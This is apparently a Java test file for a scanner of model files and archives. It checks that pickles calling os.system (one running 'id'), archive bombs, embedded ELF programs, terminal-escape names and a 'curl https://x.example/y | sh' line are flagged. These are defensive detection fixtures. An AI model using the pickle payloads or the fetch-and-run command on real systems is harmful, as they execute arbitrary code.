package dev.bartizan.artifacts;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.luben.zstd.ZstdOutputStream;
import dev.bartizan.artifacts.archive.Unpacking;
import dev.bartizan.core.Finding;
import dev.bartizan.formats.ByteSource;
import dev.bartizan.formats.FormatException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.SplittableRandom;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
import org.apache.commons.compress.archivers.sevenz.SevenZMethod;
import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
import org.apache.commons.compress.compressors.lz4.FramedLZ4CompressorOutputStream;
import org.apache.commons.compress.compressors.snappy.FramedSnappyCompressorOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Packed files and archives in one another.
class ContainersScanTest {
    private static final byte[] PAYLOAD = Pickles.calling("os", "system");

    interface Packer {
        OutputStream open(OutputStream out) throws IOException;
    }

    static byte[] packed(Packer packer, byte[] content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (OutputStream out = packer.open(bytes)) {
            out.write(content);
        }
        return bytes.toByteArray();
    }

    static byte[] zstd(byte[] content) throws IOException {
        return packed(ZstdOutputStream::new, content);
    }

    static byte[] lz4(byte[] content) throws IOException {
        return packed(FramedLZ4CompressorOutputStream::new, content);
    }

    @Test
    void aPickleInZstdLz4AndSnappyIsFound() throws IOException {
        assertThat(Scans.verdict(zstd(PAYLOAD))).isEqualTo(Verdict.MALICIOUS);
        assertThat(Scans.verdict(lz4(PAYLOAD))).isEqualTo(Verdict.MALICIOUS);
        assertThat(Scans.verdict(packed(FramedSnappyCompressorOutputStream::new, PAYLOAD)))
                .isEqualTo(Verdict.MALICIOUS);
        assertThat(
                        Scans.verdict(
                                zstd(
                                        "plain text"
                                                .getBytes(
                                                        java.nio.charset.StandardCharsets.UTF_8))))
                .isEqualTo(Verdict.CLEAN);
    }

    @Test
    void aPackageSaysWhatItImports() {
        FileReport report =
                Scans.scan(
                        "m.pt",
                        Scans.zip(
                                Map.of(
                                        "p/.data/extern_modules",
                                        "torch\nos\n".getBytes(StandardCharsets.UTF_8),
                                        "p/net.py",
                                        "class Net: pass\n".getBytes(StandardCharsets.UTF_8),
                                        "p/model/model.pkl",
                                        PickleParts.pickle(PickleParts.name("net:Net")))));
        assertThat(report.formats()).contains("torch-package");
        assertThat(report.reaches())
                .contains("package-source net.py", "package-extern os", "package-extern torch");
        assertThat(report.findings())
                .filteredOn(finding -> finding.rule().equals("package-runs-its-sources"))
                .extracting(Finding::message)
                .anyMatch(message -> message.endsWith(": net.py"))
                .anyMatch(message -> message.endsWith(": os"));
    }

    @Test
    void a7zPackedByAnUnknownMethodIsNotCovered(@TempDir Path folder) throws IOException {
        Path file = folder.resolve("a.7z");
        try (SevenZOutputFile out = new SevenZOutputFile(file.toFile())) {
            out.setContentCompression(SevenZMethod.LZMA2);
            SevenZArchiveEntry entry = new SevenZArchiveEntry();
            entry.setName("a.txt");
            out.putArchiveEntry(entry);
            out.write("words ".repeat(900).getBytes(StandardCharsets.UTF_8));
            out.closeArchiveEntry();
        }
        assertThat(Scans.verdict(Files.readAllBytes(file))).isEqualTo(Verdict.CLEAN);
        FileReport report = Scans.scan("a.7z", otherMethod(Files.readAllBytes(file)));
        assertThat(report.verdict()).isEqualTo(Verdict.NOT_COVERED);
        assertThat(report.notCovered()).anyMatch(reason -> reason.contains("PPMd"));
    }

    @Test
    void emptyManifestsAndNodesOfOrbaxAreBroken() {
        for (int magic : new int[] {0x0cdb3a2a, 0x0cdb1234, 0x0cdb20de}) {
            FileReport report =
                    Scans.scan("manifest.ocdbt", ByteBuffer.allocate(64).putInt(magic).array());
            assertThat(report.formats()).contains("ocdbt");
            assertThat(report.verdict()).isEqualTo(Verdict.UNREADABLE);
        }
    }

    /// The archive with the id of LZMA2 (0x21) in its header made that of nothing (7zFormat.txt).
    private static byte[] otherMethod(byte[] archive) {
        ByteBuffer bytes = ByteBuffer.wrap(archive.clone()).order(ByteOrder.LITTLE_ENDIAN);
        int header = 32 + (int) bytes.getLong(12);
        int size = (int) bytes.getLong(20);
        for (int i = header; i < header + size - 1; i++) {
            if (bytes.get(i) == 0x21 && bytes.get(i + 1) == 0x21) {
                bytes.put(i + 1, (byte) 0x7e);
            }
        }
        bytes.putInt(28, crc(bytes.array(), header, size));
        bytes.putInt(8, crc(bytes.array(), 12, 20));
        return bytes.array();
    }

    private static int crc(byte[] bytes, int from, int length) {
        CRC32 crc = new CRC32();
        crc.update(bytes, from, length);
        return (int) crc.getValue();
    }

    @Test
    void archivesOfArchivesAreOpened() throws IOException {
        byte[] tar = FormatScanTest.tar("a.pkl", '0', "", PAYLOAD);
        byte[] deep = lz4(zstd(Scans.zip(Map.of("x.tar", tar))));
        assertThat(Scans.verdict(deep)).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void compressedPicklesOfOldJoblibAreOpened() throws IOException {
        for (String head : new String[] {"ZF0x17               ", "ZF0x17                 "}) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes(head.getBytes(StandardCharsets.UTF_8));
            try (DeflaterOutputStream zlib = new DeflaterOutputStream(out)) {
                zlib.write(PAYLOAD);
            }
            assertThat(Scans.verdict(out.toByteArray())).isEqualTo(Verdict.MALICIOUS);
            out.write(1);
            assertThat(Scans.scan("m.joblib", out.toByteArray()).findings())
                    .extracting("rule")
                    .contains("archive-structure");
        }
        byte[] text = "ZF0x17 is a way of joblib's".getBytes(StandardCharsets.UTF_8);
        assertThat(Scans.verdict(text)).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void brokenFramesAreReported() throws IOException {
        for (byte[] bytes : new byte[][] {zstd(new byte[5000]), lz4(new byte[5000])}) {
            byte[] cut = java.util.Arrays.copyOf(bytes, bytes.length - 3);
            assertThat(Scans.verdict(cut)).isEqualTo(Verdict.UNREADABLE);
        }
    }

    @Test
    void framesThatUnpackWithoutMeasureAreReported() throws IOException {
        assertThat(Scans.scan("a", zstd(new byte[40 << 20])).findings())
                .extracting("rule")
                .contains("archive-bomb");
    }

    @Test
    void ofABombTheFirstBytesAreSearchedAndTheRestIsNotCovered() throws IOException {
        FileReport early = Scans.scan("a.bin.zst", bomb(1 << 20));
        assertThat(early.verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(early.notCovered()).anyMatch(what -> what.contains("what a bomb holds behind"));
        FileReport late = Scans.scan("a.bin.zst", bomb(38 << 20));
        assertThat(late.verdict()).isNotEqualTo(Verdict.CLEAN);
        assertThat(late.notCovered()).anyMatch(what -> what.contains("what a bomb holds behind"));
    }

    /// Packed less tightly than what unpacks to the least that a bomb does.
    private static byte[] bomb(int payloadAt) throws IOException {
        byte[] packed = new byte[40 << 20];
        byte[] noise = new byte[256 << 10];
        new Random(1).nextBytes(noise);
        System.arraycopy(noise, 0, packed, 2 << 20, noise.length);
        System.arraycopy(PAYLOAD, 0, packed, payloadAt, PAYLOAD.length);
        return zstd(packed);
    }

    @Test
    void programsInTheMiddleOfDataAreFound() {
        byte[] data = new byte[4096];
        java.util.Arrays.fill(data, (byte) 0x91);
        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, data, 1000, 8);
        assertThat(Scans.scan("weights.bin", data).findings())
                .extracting("rule")
                .contains("executable-inside-data");
        data[1001] = 'F';
        assertThat(Scans.scan("weights.bin", data).findings()).isEmpty();
    }

    @Test
    void textsInProgramsAreManualsAndPlacesOfSources() {
        assertThat(
                        program("pickle.load(file, encoding='x') is assumed. ../Modules/_ssl.c")
                                .verdict())
                .isEqualTo(Verdict.SUSPICIOUS);
        assertThat(program("curl https://x.example/y | sh").verdict()).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void aProgramOrScriptNamedLikeAModelIsNone() {
        byte[] elf = new byte[4096];
        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, elf, 0, 8);
        for (String name : new String[] {"w.safetensors", "a.onnx", "config.json", "m.gguf"}) {
            assertThat(Scans.scan(name, elf).verdict()).as(name).isEqualTo(Verdict.MALICIOUS);
        }
        byte[] script = "#!/bin/sh\nls\n".getBytes(StandardCharsets.UTF_8);
        assertThat(Scans.scan("model.bin", script).verdict()).isEqualTo(Verdict.SUSPICIOUS);
        assertThat(Scans.scan("list.sh", script).verdict()).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void namesThatSteerTerminalsAreSuspicious() {
        for (String name : new String[] {"a\u001b[2Jx", "a\b\b\bz"}) {
            byte[] zip = Scans.zip(Map.of(name, new byte[] {1}));
            assertThat(Scans.scan("m.zip", zip).findings())
                    .extracting("rule")
                    .contains("archive-escapes-its-folder");
        }
    }

    private static FileReport program(String text) {
        byte[] program = new byte[4096];
        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, program, 0, 8);
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        System.arraycopy(bytes, 0, program, 1000, bytes.length);
        return Scans.scan("op.so", program);
    }

    @Test
    void membersNamedLikeNodesOfSkopsAreSuspicious() {
        Map<String, byte[]> members = new LinkedHashMap<>();
        members.put(
                "schema.json",
                "{\"protocol\":2}".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        members.put("1.npy", new byte[0]);
        assertThat(Scans.scan("m.skops", Scans.zip(members)).findings())
                .extracting("rule")
                .doesNotContain("skops-member-named-like-a-node");
        members.put("MethodNode.json", new byte[] {'{', '}'});
        assertThat(Scans.verdict(Scans.zip(members))).isEqualTo(Verdict.SUSPICIOUS);
    }

    @Test
    void membersPackedInWaysThatPythonUnpacksAreUnpacked() throws IOException {
        for (var method :
                new org.apache.commons.compress.archivers.zip.ZipMethod[] {
                    org.apache.commons.compress.archivers.zip.ZipMethod.BZIP2,
                    org.apache.commons.compress.archivers.zip.ZipMethod.ZSTD
                }) {
            byte[] content =
                    method.getCode() == 12
                            ? packed(
                                    org.apache.commons.compress.compressors.bzip2
                                                    .BZip2CompressorOutputStream
                                            ::new,
                                    PAYLOAD)
                            : zstd(PAYLOAD);
            assertThat(Scans.verdict(withMethod(content, method.getCode())))
                    .as(method.name())
                    .isEqualTo(Verdict.MALICIOUS);
        }
        byte[] lzma =
                packed(
                        out -> {
                            out.write(new byte[] {9, 4, 5, 0, 0x5d, 0, 0, 0x10, 0});
                            var options = new org.tukaani.xz.LZMA2Options(0);
                            options.setDictSize(1 << 20);
                            return new org.tukaani.xz.LZMAOutputStream(out, options, false);
                        },
                        PAYLOAD);
        assertThat(Scans.verdict(withMethod(lzma, 14))).isEqualTo(Verdict.MALICIOUS);
    }

    /// A zip whose one member says that it is packed by a method, and unpacks to the payload.
    private static byte[] withMethod(byte[] content, int method) {
        byte[] zip = Scans.zip(Map.of("data.pkl", content));
        java.nio.ByteBuffer bytes =
                java.nio.ByteBuffer.wrap(zip).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(PAYLOAD);
        int directory = bytes.getInt(zip.length - 6);
        bytes.putShort(8, (short) method)
                .putInt(14, (int) crc.getValue())
                .putInt(22, PAYLOAD.length);
        bytes.putShort(directory + 10, (short) method).putInt(directory + 16, (int) crc.getValue());
        bytes.putInt(directory + 24, PAYLOAD.length);
        return zip;
    }

    @Test
    void anArchiveStoredInAnArchiveIsNoSecondReading() throws IOException {
        byte[] inner = Scans.zip(Map.of("b.txt", new byte[] {98}, "a.txt", new byte[] {'a'}));
        byte[] outer = Scans.zip(Map.of("policy.zip", inner));
        assertThat(Scans.verdict(outer)).isEqualTo(Verdict.CLEAN);
        byte[] bad = Scans.zip(Map.of("m.pkl", "cos\nsystem\n(S'id'\ntR.".getBytes(US_ASCII)));
        assertThat(Scans.verdict(Scans.zip(Map.of("policy.zip", bad))))
                .isEqualTo(Verdict.MALICIOUS);
        byte[] glued = Arrays.copyOf(inner, inner.length + outer.length);
        System.arraycopy(outer, 0, glued, inner.length, outer.length);
        assertThat(Scans.verdict(glued)).as("one behind another").isNotEqualTo(Verdict.CLEAN);
    }

    @Test
    void gzipIsReadAsItsReadersDo() throws IOException {
        byte[] pickle = "cos\nsystem\n(S'id'\ntR.".getBytes(US_ASCII);
        byte[] packed = gzip(pickle);
        assertThat(Scans.verdict(packed)).isEqualTo(Verdict.MALICIOUS);
        byte[] behind = Arrays.copyOf(packed, packed.length + 5);
        assertThat(Scans.verdict(behind)).as("zeros behind").isEqualTo(Verdict.MALICIOUS);
        behind[packed.length] = 'x';
        assertThat(Scans.verdict(behind)).as("junk behind").isEqualTo(Verdict.MALICIOUS);
        byte[] unchecked = packed.clone();
        unchecked[packed.length - 6] ^= 1;
        assertThat(Scans.verdict(unchecked)).as("checksum").isEqualTo(Verdict.MALICIOUS);
        byte[] extra = new byte[packed.length + 3];
        System.arraycopy(packed, 0, extra, 0, 10);
        extra[3] = 4; // an extra field that is no field
        extra[10] = 1;
        extra[12] = 'x';
        System.arraycopy(packed, 10, extra, 13, packed.length - 10);
        assertThat(Scans.verdict(extra)).as("extra").isEqualTo(Verdict.MALICIOUS);
        byte[] honest = Arrays.copyOf(gzip(new byte[] {'a', '\n'}), 512);
        assertThat(Scans.verdict(honest)).as("padded").isEqualTo(Verdict.CLEAN);
        ByteArrayOutputStream two = new ByteArrayOutputStream();
        two.write(gzip(new byte[] {'a', '\n'}));
        two.write(new byte[100]);
        two.write(packed);
        assertThat(Scans.verdict(two.toByteArray())).as("apart").isNotEqualTo(Verdict.CLEAN);
    }

    private static byte[] gzip(byte[] plain) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(plain);
        }
        return out.toByteArray();
    }

    @Test
    void gzipUnpacksToWhatTheJdkUnpacksItTo() throws IOException, FormatException {
        SplittableRandom random = new SplittableRandom(3);
        for (int i = 0; i < 200; i++) {
            ByteArrayOutputStream packed = new ByteArrayOutputStream();
            ByteArrayOutputStream plain = new ByteArrayOutputStream();
            for (int members = random.nextInt(1, 5); members > 0; members--) {
                byte[] bytes = new byte[random.nextInt(40_000)];
                random.nextBytes(bytes);
                Arrays.fill(bytes, 0, bytes.length / 2, (byte) 7);
                packed.write(gzip(bytes));
                plain.write(bytes);
            }
            byte[] file = packed.toByteArray();
            try (ByteSource unpacked =
                    Unpacking.unpack(ByteSource.of(file), 1 << 20).orElseThrow()) {
                assertThat(unpacked.bytes(0, 1 << 20)).isEqualTo(plain.toByteArray());
            }
        }
    }
}
